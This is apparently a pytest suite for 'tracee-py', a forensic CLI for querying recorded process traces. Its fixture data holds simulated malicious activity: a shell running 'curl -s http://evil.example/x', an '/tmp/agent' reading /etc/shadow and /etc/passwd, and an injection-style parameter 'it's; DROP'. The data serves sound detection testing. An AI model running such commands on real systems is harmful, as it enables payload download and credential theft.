"""The investigation commands, in-process (CliRunner and ``main``) and as a subprocess."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from tests.query.conftest import TRACEE, Scenario
from tracee_py.cli.app import app, main

runner = CliRunner()
MY_COMMANDS = ("query", "tree", "ps", "timeline", "info", "synth")


def ok(*args: str | Path) -> str:
    """Run a command in-process; it must succeed; returns stdout."""
    result = runner.invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, (result.stdout, result.stderr, result.exception)
    return result.stdout


def run_main(
    args: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> tuple[int, str, str]:
    """Run through ``main`` (the console script), which turns errors into one line."""
    monkeypatch.setattr(sys, "argv", ["tracee-py", *args])
    code = 0
    try:
        main()
    except SystemExit as exc:
        code = int(exc.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# -- query ----------------------------------------------------------------------------------------


def test_query_json(scenario: Scenario) -> None:
    out = ok(
        "query",
        "--data",
        scenario.root,
        "-o",
        "json",
        "SELECT node, count(*) AS n FROM events GROUP BY node ORDER BY node",
    )
    assert json.loads(out) == [{"node": "alpha", "n": 34}, {"node": "beta", "n": 6}]


def test_query_params_are_bound(scenario: Scenario) -> None:
    out = ok(
        "query",
        "--data",
        scenario.root,
        "-o",
        "jsonl",
        "-p",
        "pid=400",
        "-p",
        "node=alpha",
        "SELECT pid, exe, start_time FROM processes WHERE pid = $pid AND node = $node "
        "ORDER BY start_time",
    )
    rows = [json.loads(line) for line in out.splitlines()]
    assert rows == [
        {"pid": 400, "exe": "/usr/bin/ls", "start_time": "2026-03-14T10:00:05.000000000Z"},
        {"pid": 400, "exe": "/usr/bin/cat", "start_time": "2026-03-14T10:00:20.000000000Z"},
    ]
    quoted = ok(
        "query", "--data", scenario.root, "-o", "jsonl", "-p", "x=it's; DROP", "SELECT $x AS x"
    )
    assert json.loads(quoted) == {"x": "it's; DROP"}


def test_query_from_file_as_csv_with_lists_and_nested_times(
    scenario: Scenario, tmp_path: Path
) -> None:
    sql = tmp_path / "q.sql"
    sql.write_text("SELECT pid, argv, execs FROM processes WHERE node = 'alpha' AND pid = 300")
    out = ok("query", "--data", scenario.root, "--file", sql, "-o", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["pid", "argv", "execs"]
    assert rows[1][:2] == ["300", '["curl", "-s", "http://evil.example/x"]']
    execs = json.loads(rows[1][2])
    assert [e["time"] for e in execs] == [
        "2026-03-14T10:00:01.100000000Z",
        "2026-03-14T10:00:01.200000000Z",
    ]


def test_query_table_marks_truncated_rows_and_cells(scenario: Scenario) -> None:
    out = ok(
        "query",
        "--data",
        scenario.root,
        "--max-rows",
        "2",
        "SELECT i, repeat('x', 100) AS s FROM range(5) t(i)",
    )
    lines = out.splitlines()
    data = [ln for ln in lines if ln.strip().startswith(("0 ", "1 ", "2 "))]
    assert [ln.split()[0] for ln in data] == ["0", "1"]
    assert "x" * 59 + "…" in data[0]
    assert "… first 2 rows shown; use -o csv or -o jsonl for all rows" in out


def test_query_streams_large_results(scenario: Scenario) -> None:
    out = ok("query", "--data", scenario.root, "-o", "jsonl", "SELECT i FROM range(100000) t(i)")
    lines = out.splitlines()
    assert len(lines) == 100000
    assert (lines[0], lines[-1]) == ('{"i": 0}', '{"i": 99999}')


def test_query_window_and_node(scenario: Scenario) -> None:
    out = ok(
        "query",
        "--data",
        scenario.root,
        "-o",
        "jsonl",
        "--node",
        "alpha",
        "--from",
        "2026-03-14T10:00:09Z",
        "--to",
        "2026-03-14T10:00:12Z",
        "SELECT count(*) AS n FROM events",
    )
    assert json.loads(out) == {"n": 7}


def test_bad_sql_is_one_line_without_traceback(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = run_main(
        ["query", "--data", str(scenario.root), "SELEC 1"], capsys, monkeypatch
    )
    assert (code, out) == (2, "")
    assert err == 'error: Parser Error: syntax error at or near "SELEC" LINE 1: SELEC 1\n'
    code, _, err = run_main(
        ["query", "--data", str(scenario.root), "SELECT nope FROM events"], capsys, monkeypatch
    )
    assert code == 2
    assert err.startswith('error: Binder Error: Referenced column "nope" not found in FROM clause!')
    assert err.count("\n") == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["query", "--data", "{missing}", "SELECT 1"],
            "error: data directory {missing} does not exist (set --data or TRACEE_PY_DATA)",
        ),
        (
            ["query", "--data", "{empty}", "SELECT 1"],
            "error: no recordings in {empty}: no files match events/node=*/date=*/*.parquet",
        ),
        (["tree", "--data", "{root}", "--pid", "4242"], "error: pid 4242 is not in the recording"),
        (
            ["timeline", "--data", "{root}", "--process-id", "123456789012"],
            "error: process_id 123456789012 is not in the recording",
        ),
        (
            ["ps", "--data", "{root}", "--at", "yesterday"],
            "error: cannot read time 'yesterday': use ISO-8601 (2026-03-14T22:05:00Z) or a time "
            "relative to now (-10m, -2h, now)",
        ),
        (
            ["query", "--data", "{root}", "-o", "xml", "SELECT 1"],
            "error: unknown output format 'xml': use one of table, json, jsonl, csv",
        ),
        (
            ["query", "--data", "{root}", "-p", "1x=2", "SELECT 1"],
            "error: bad --param '1x=2': write name=value, name made of letters, digits and _",
        ),
        (
            ["query", "--data", "{root}"],
            "error: give the SQL as an argument or with --file, not both",
        ),
        (
            ["tree", "--data", "{root}"],
            "error: say which processes: a container, a pod, a time or a time window",
        ),
        (
            ["timeline", "--data", "{root}"],
            "error: say which process: PROCESS, --pid or --process-id",
        ),
        (
            ["tree", "--data", "{root}", "--pod", "nope"],
            "error: no process ran in pod 'nope' (pods: web-1)",
        ),
        (
            ["info", "--data", "{root}", "-o", "csv"],
            "error: -o csv prints one table: choose it with --section",
        ),
        (
            [
                "timeline",
                "--data",
                "{root}",
                "300",
                "--at",
                "2026-03-14T10:00:01.5Z",
                "--kind",
                "nope",
            ],
            "error: unknown event kind 'nope': see tracee-py query "
            '"SELECT DISTINCT event FROM events"',
        ),
    ],
)
def test_errors_are_one_line_and_exit_2(
    args: list[str],
    message: str,
    scenario: Scenario,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "empty").mkdir()
    values = {
        "root": str(scenario.root),
        "missing": str(tmp_path / "missing"),
        "empty": str(tmp_path / "empty"),
    }
    code, out, err = run_main([a.format(**values) for a in args], capsys, monkeypatch)
    assert (code, out) == (2, "")
    assert err == message.format(**values) + "\n"


def test_ambiguous_pid_lists_candidates_and_exits_2(
    scenario: Scenario, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = run_main(
        ["tree", "--data", str(scenario.root), "--pid", "400"], capsys, monkeypatch
    )
    assert (code, out) == (2, "")
    assert err.startswith(
        "error: pid 400 names 2 processes, pick one with --at TIME, --node or --process-id: "
    )
    assert str(scenario.id("alpha:ls")) in err and str(scenario.id("alpha:cat")) in err
    assert err.count("\n") == 1


# -- tree, ps, timeline ---------------------------------------------------------------------------


def test_tree_json_is_nested(scenario: Scenario) -> None:
    out = ok(
        "tree", "--data", scenario.root, "--process-id", scenario.id("alpha:python"), "-o", "json"
    )
    body = json.loads(out)
    assert body["focus_process_id"] == scenario.id("alpha:python")
    chain = []
    node = body["roots"][0]
    while True:
        chain.append((node["pid"], node["exe"], node["exit_code"], node["file_events"]))
        if not node["children"]:
            break
        assert len(node["children"]) == 1
        node = node["children"][0]
    assert chain == [
        (1, "/sbin/init", None, 0),
        (100, "/usr/sbin/sshd", None, 0),
        (200, "/usr/bin/bash", None, 0),
        (301, "/usr/bin/python3", 0, 0),
        (302, "/tmp/agent", None, 2),
    ]
    assert node["execs"] == [
        {
            "time": "2026-03-14T10:00:03.600000000Z",
            "path": "/tmp/agent",
            "argv": ["/tmp/agent", "--daemon"],
            "exe_sha256": "sha-agent",
            "retval": 0,
        }
    ]


def test_tree_by_pid_at_a_time_draws_the_tree(scenario: Scenario) -> None:
    out = ok("tree", "--data", scenario.root, "--pid", "400", "--at", "2026-03-14T10:00:20.5Z")
    lines = out.splitlines()
    assert lines[0] == "process 400 (/usr/bin/cat) on alpha"
    assert lines[1] == "└── 1 /sbin/init  2026-03-14T09:00:01.000Z · running"
    assert lines[4] == (
        "            └── 400 cat /etc/hosts  2026-03-14T10:00:20.000Z · exit 1 · files 1"
    )
    assert len(lines) == 5


def test_tree_positional_pid_and_exec_chain(scenario: Scenario) -> None:
    out = ok("tree", "--data", scenario.root, "300", "--at", "2026-03-14T10:00:01.5Z")
    assert (
        "└── 300 sh -c 'exec curl -s http://evil.example/x' → curl -s http://evil.example/x  "
        "2026-03-14T10:00:01.000Z · exit 0 · files 1 · net 1"
    ) in out


def test_tree_of_a_container_as_rows(scenario: Scenario) -> None:
    out = ok("tree", "--data", scenario.root, "--container", "web", "-o", "jsonl")
    rows = [json.loads(line) for line in out.splitlines()]
    assert [(r["depth"], r["pid"], r["pod"], r["container_name"]) for r in rows] == [
        (0, 700, "prod/web-1", "web"),
        (1, 701, "prod/web-1", "web"),
    ]


def test_ps_json(scenario: Scenario) -> None:
    out = ok(
        "ps",
        "--data",
        scenario.root,
        "--at",
        "2026-03-14T10:00:03.7Z",
        "--node",
        "alpha",
        "-o",
        "json",
    )
    rows = json.loads(out)
    assert [(r["pid"], r["ppid"], r["exe"]) for r in rows] == [
        (1, 0, "/sbin/init"), (100, 1, "/usr/sbin/sshd"), (200, 100, "/usr/bin/bash"),
        (301, 200, "/usr/bin/python3"), (302, 301, "/tmp/agent"),
        (650, 1, "/usr/bin/containerd-shim-runc-v2")]  # fmt: skip
    assert rows[4]["parent_exe"] == "/usr/bin/python3"


def test_ps_defaults_to_the_end_of_the_recording(scenario: Scenario) -> None:
    result = runner.invoke(app, ["ps", "--data", str(scenario.root), "--node", "beta", "-o", "csv"])
    assert result.exit_code == 0
    assert (
        "processes running at the end of the recording, 2026-03-14T10:00:03.000000000Z"
        in result.stderr
    )
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [r["pid"] for r in rows] == ["1", "200"]


def test_timeline_lines(scenario: Scenario) -> None:
    result = runner.invoke(
        app,
        ["timeline", "--data", str(scenario.root), "--process-id", str(scenario.id("alpha:curl"))],
    )
    assert result.exit_code == 0
    head = "2026-03-14T10:00:0{}Z      300  {:<15}  {:<16}  "
    assert result.stdout.splitlines() == [
        head.format("1.000000", "bash", "process_fork") + "started, forked by pid 200",
        head.format("1.100000", "sh", "process_exec")
        + "exec /bin/sh sh -c 'exec curl -s http://evil.example/x'",
        head.format("1.150000", "sh", "process_exec")
        + "exec /usr/local/bin/curl curl -s http://evil.example/x FAILED = -2 (ENOENT)",
        head.format("1.200000", "curl", "process_exec")
        + "exec /usr/bin/curl curl -s http://evil.example/x",
        head.format("1.300000", "curl", "net_connect") + "connect 203.0.113.5:80",
        head.format("1.400000", "curl", "file_open")
        + "open /tmp/x O_WRONLY|O_CREAT|O_TRUNC -> fd 4",
        head.format("2.000000", "curl", "process_exit") + "exited with code 0",
    ]
    assert result.stdout.splitlines()[0] == (
        "2026-03-14T10:00:01.000000Z      300  bash             process_fork      "
        "started, forked by pid 200"
    )
    assert "7 events" in result.stderr


def test_timeline_descendants_jsonl(scenario: Scenario) -> None:
    out = ok(
        "timeline",
        "--data",
        scenario.root,
        "--pid",
        "301",
        "-D",
        "-o",
        "jsonl",
        "--kind",
        "file_open",
    )
    rows = [json.loads(line) for line in out.splitlines()]
    assert [(r["pid"], r["tid"], r["summary"]) for r in rows] == [
        (302, 302, "open /etc/shadow O_RDONLY -> fd 5"),
        (302, 303, "open /etc/passwd O_RDONLY -> fd 6"),
    ]
    assert rows[0]["time"] == "2026-03-14T10:00:10.000000000Z"


# -- info -----------------------------------------------------------------------------------------


def test_info_json(scenario: Scenario) -> None:
    body = json.loads(ok("info", "--data", scenario.root, "-o", "json"))
    assert body["events"] == 40
    assert [(n["node"], n["boot_ids"], n["events"], n["files"]) for n in body["nodes"]] == [
        ("alpha", ["boot-a"], 34, 3),
        ("beta", ["boot-b"], 6, 1),
    ]
    assert {"node": "alpha", "kind": "file_open", "events": 4, "lost": 7} in body["kinds"]
    assert body["lost"] == [
        {
            "node": "alpha",
            "interval_start": "2026-03-14T10:00:00.000000000Z",
            "interval_end": "2026-03-14T10:01:00.000000000Z",
            "kind": "file_open",
            "lost": 7,
        }
    ]
    assert len(body["files"]) == 5
    assert body["problems"] == []
    assert (body["first_time"], body["last_time"]) == (
        "2026-03-14T10:00:00.000000000Z",
        "2026-03-14T10:00:21.000000000Z",
    )


def test_info_names_damaged_and_tampered_files(scenario_copy: Scenario) -> None:
    files = sorted((scenario_copy.root / "events" / "node=alpha").rglob("*.parquet"))
    truncated, tampered = files[0], files[1]
    truncated.write_bytes(truncated.read_bytes()[:100])
    data = bytearray(tampered.read_bytes())
    data[10] ^= 0xFF  # a page header: the footer still reads, the hash does not match
    tampered.write_bytes(bytes(data))
    result = runner.invoke(
        app, ["info", "--data", str(scenario_copy.root), "--section", "problems", "-o", "csv"]
    )
    assert result.exit_code == 0
    rel_t = str(truncated.relative_to(scenario_copy.root))
    rel_m = str(tampered.relative_to(scenario_copy.root))
    rows = {(r["file"], r["problem"]) for r in csv.DictReader(io.StringIO(result.stdout))}
    # The tampered file's footer reads; its damaged page is found when the events are read.
    # The truncated one is shorter than the manifest says, which is checked before hashing.
    assert rows == {
        (rel_t, "unreadable"),
        (rel_t, "size_mismatch"),
        (rel_m, "unreadable"),
        (rel_m, "hash_mismatch"),
    }
    assert f"warning: skipped damaged file {rel_t}: not a readable Parquet file" in result.stderr
    assert f"warning: skipped damaged file {rel_m}: cannot be read" in result.stderr


def test_query_over_a_damaged_dataset_warns_and_answers(scenario_copy: Scenario) -> None:
    victim = sorted((scenario_copy.root / "events" / "node=alpha").rglob("*.parquet"))[2]
    victim.write_bytes(victim.read_bytes()[:-20])
    result = runner.invoke(
        app,
        [
            "query",
            "--data",
            str(scenario_copy.root),
            "-o",
            "jsonl",
            "SELECT count(*) AS n FROM events WHERE node = 'beta'",
        ],
    )
    assert result.exit_code == 0
    assert json.loads(result.stdout) == {"n": 6}
    rel = victim.relative_to(scenario_copy.root)
    first, second = result.stderr.splitlines()
    assert first.startswith(f"warning: {rel}: size is ")
    assert second.startswith(f"warning: skipped damaged file {rel}: not a readable Parquet file")


# -- help -----------------------------------------------------------------------------------------


def _all_commands(group: typer.main.TyperGroup, prefix: list[str]) -> list[list[str]]:  # type: ignore[name-defined]
    found = []
    for name, cmd in group.commands.items():
        found.append([*prefix, name])
        if hasattr(cmd, "commands"):
            found += _all_commands(cmd, [*prefix, name])
    return found


def test_every_command_has_help() -> None:
    root = typer.main.get_command(app)
    commands = _all_commands(root, [])  # type: ignore[arg-type]
    assert {c[0] for c in commands} >= set(MY_COMMANDS)
    for path in commands:
        result = runner.invoke(app, [*path, "--help"])
        assert result.exit_code == 0, path
        cmd = root
        for part in path:
            cmd = cmd.commands[part]  # type: ignore[attr-defined]
        assert (cmd.help or "").strip(), f"{' '.join(path)} has no help"
        if path[0] in MY_COMMANDS:
            assert "Example" in cmd.help, path
            assert "tracee-py " + path[0] in cmd.help, path


def test_synth_is_hidden_but_works(tmp_path: Path) -> None:
    assert "synth" not in ok("--help")
    result = runner.invoke(
        app,
        ["synth", "--data", str(tmp_path / "s"), "--events", "3000", "--nodes", "2", "--seed", "1"],
    )
    assert result.exit_code == 0, result.stderr
    assert json.loads(
        ok(
            "query",
            "--data",
            tmp_path / "s",
            "-o",
            "jsonl",
            "SELECT count(*) AS n, count(DISTINCT node) AS nodes FROM events",
        )
    ) == {"n": 3000, "nodes": 2}


# -- as a subprocess ------------------------------------------------------------------------------


def test_console_script_main_paths(scenario: Scenario) -> None:
    ok_run = subprocess.run(
        [
            TRACEE,
            "query",
            "--data",
            str(scenario.root),
            "-o",
            "json",
            "SELECT pid FROM processes WHERE node = 'beta' ORDER BY pid",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert ok_run.returncode == 0, ok_run.stderr
    assert json.loads(ok_run.stdout) == [{"pid": 1}, {"pid": 200}, {"pid": 300}]
    tree = subprocess.run(
        [TRACEE, "tree", "--data", str(scenario.root), "--pid", "302", "-o", "json"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert tree.returncode == 0, tree.stderr
    assert json.loads(tree.stdout)["title"] == "process 302 (/tmp/agent) on alpha"
    bad = subprocess.run(
        [TRACEE, "timeline", "--data", str(scenario.root), "--pid", "400"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert bad.returncode == 2
    assert bad.stdout == ""
    assert bad.stderr.startswith("error: pid 400 names 2 processes")
    assert "Traceback" not in bad.stderr and bad.stderr.count("\n") == 1


def test_a_page_damaged_inside_a_file_is_found_while_reading(scenario_copy: Scenario) -> None:
    victim = sorted((scenario_copy.root / "events" / "node=alpha").rglob("*.parquet"))[1]
    rel = str(victim.relative_to(scenario_copy.root))
    import pyarrow.parquet as pq

    lost = pq.read_metadata(victim).num_rows
    data = bytearray(victim.read_bytes())
    data[10] ^= 0xFF  # the footer still reads: only reading the pages finds it
    victim.write_bytes(bytes(data))
    result = runner.invoke(
        app,
        [
            "query",
            "--data",
            str(scenario_copy.root),
            "-o",
            "jsonl",
            "SELECT count(*) AS n, bool_and(hash(time) IS NOT NULL) AS read FROM events",
        ],
    )
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout) == {"n": scenario_copy.rows - lost, "read": True}
    assert result.stderr.startswith(f"warning: skipped damaged file {rel}: cannot be read")
    for _ in range(2):  # built, then from the cache: the warning comes back with it
        tree = runner.invoke(
            app, ["tree", "--data", str(scenario_copy.root), "--pid", "302", "-o", "json"]
        )
        assert tree.exit_code == 0, tree.stderr
        assert json.loads(tree.stdout)["title"] == "process 302 (/tmp/agent) on alpha"
        assert f"warning: skipped damaged file {rel}: cannot be read" in tree.stderr


def test_tree_of_a_moment_on_one_node_and_the_drawing_cap(scenario: Scenario) -> None:
    out = ok("tree", "--data", scenario.root, "--at", "2026-03-14T10:00:03.7Z", "--node", "beta")
    assert out.splitlines() == [
        "2 processes at 2026-03-14T10:00:03.700000000Z",
        "└── 1 /sbin/init  2026-03-14T09:00:02.000Z · running",
        "    └── 200 bash  2026-03-14T09:58:20.000Z · running",
    ]
    capped = ok(
        "tree", "--data", scenario.root, "--at", "2026-03-14T10:00:03.7Z", "--max-nodes", "3"
    )
    lines = capped.splitlines()
    assert len([ln for ln in lines if "──" in ln]) == 3
    assert lines[-1] == "… 5 more processes not drawn; use --max-nodes, -o json or -o jsonl"
